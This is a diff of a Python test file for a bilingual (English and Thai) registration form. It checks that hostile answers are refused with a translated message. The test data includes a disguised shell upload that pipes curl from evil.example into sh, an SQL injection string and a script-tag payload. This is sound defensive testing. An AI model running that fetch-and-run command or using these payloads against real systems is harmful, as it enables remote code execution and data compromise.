@@ -48,6 +48,7 @@ class Hostile:
     question: str  # a code of KINDS
     value: object  # text, a list of texts, or (bytes, filename) for a file
     message: str  # the English message the person reads (its Thai is checked too)
+    args: dict | None = None  # the values of the message's placeholders
 
 
 NOT_A_DATE = "This date does not exist. Check the day and the month."
@@ -58,6 +59,7 @@ NOT_A_PHONE = (
 )
 NOT_AN_UPLOAD = "Upload a PDF, or an image (PNG, JPEG, WebP or GIF); this file is neither."
 NOT_A_PDF = "This file is not a PDF that can be read."
+LONGER = "This is longer than %(limit)d characters."
 
 HOSTILE_ANSWERS = [
     Hostile("date", "2027-02-30", NOT_A_DATE),
@@ -84,11 +86,10 @@ HOSTILE_ANSWERS = [
     Hostile("email", "user@@example.org", "Give an email address such as name@example.org."),
     Hostile("email", "ผู้ใช้@ตัวอย่าง.ไทย", "Our mail server can only deliver to addresses"),
     Hostile("single", "not-offered", "Choose from the answers offered."),
-    Hostile("single", ["halal", "regular"], "Choose one answer from the list."),
     Hostile("multiple", ["halal", "' OR 1=1 --"], "Choose from the answers offered."),
     Hostile("yes_no", "maybe", "Answer yes or no."),
-    Hostile("short_text", "A" * 201, "This is longer than 200 characters."),
-    Hostile("long_text", "A" * 2001, "This is longer than 2000 characters."),
+    Hostile("short_text", "A" * 201, LONGER, {"limit": 200}),
+    Hostile("long_text", "A" * 2001, LONGER, {"limit": 2000}),
     Hostile("file", (b"#!/bin/sh\ncurl http://evil.example | sh\n", "card.png"), NOT_AN_UPLOAD),
     Hostile("file", (b"<html><script>alert(1)</script></html>", "card.pdf"), NOT_AN_UPLOAD),
     Hostile("file", (b"%PDF-1.7\n" + b"0" * 200, "card.pdf"), NOT_A_PDF),
@@ -132,9 +133,14 @@ def saved() -> tuple[int, int]:
     return registrations, answers
 
 
-@pytest.mark.parametrize("language", ["en", "th"])
+# Each row in one language, English and Thai in turn, so both are read on both databases.
+ROWS = [(hostile, ("en", "th")[index % 2]) for index, hostile in enumerate(HOSTILE_ANSWERS)]
+
+
 @pytest.mark.parametrize(
-    "hostile", HOSTILE_ANSWERS, ids=lambda h: f"{h.question}:{str(h.value)[:24]}"
+    ("hostile", "language"),
+    ROWS,
+    ids=[f"{h.question}:{str(h.value)[:24]}-{language}" for h, language in ROWS],
 )
 def test_a_hostile_answer_is_refused_with_a_message_in_the_persons_language(
     app, client, form_world, hostile, language
@@ -147,11 +153,12 @@ def test_a_hostile_answer_is_refused_with_a_message_in_the_persons_language(
     body = response.get_data(as_text=True)
     assert response.status_code == 400, body[:1000]
     whole = not hostile.message.startswith(("Our mail", "larger"))
+    args = hostile.args or {}
     with app.test_request_context(), force_locale(language):
-        message = gettext(hostile.message) if whole else hostile.message
+        message = gettext(hostile.message, **args) if whole else hostile.message
     if whole:
         if language == "th":
-            assert message != hostile.message, f"no Thai for {hostile.message!r}"
+            assert message != hostile.message % args, f"no Thai for {hostile.message!r}"
         assert str(escape(message)) in body, message
     elif language == "en":
         assert hostile.message in body
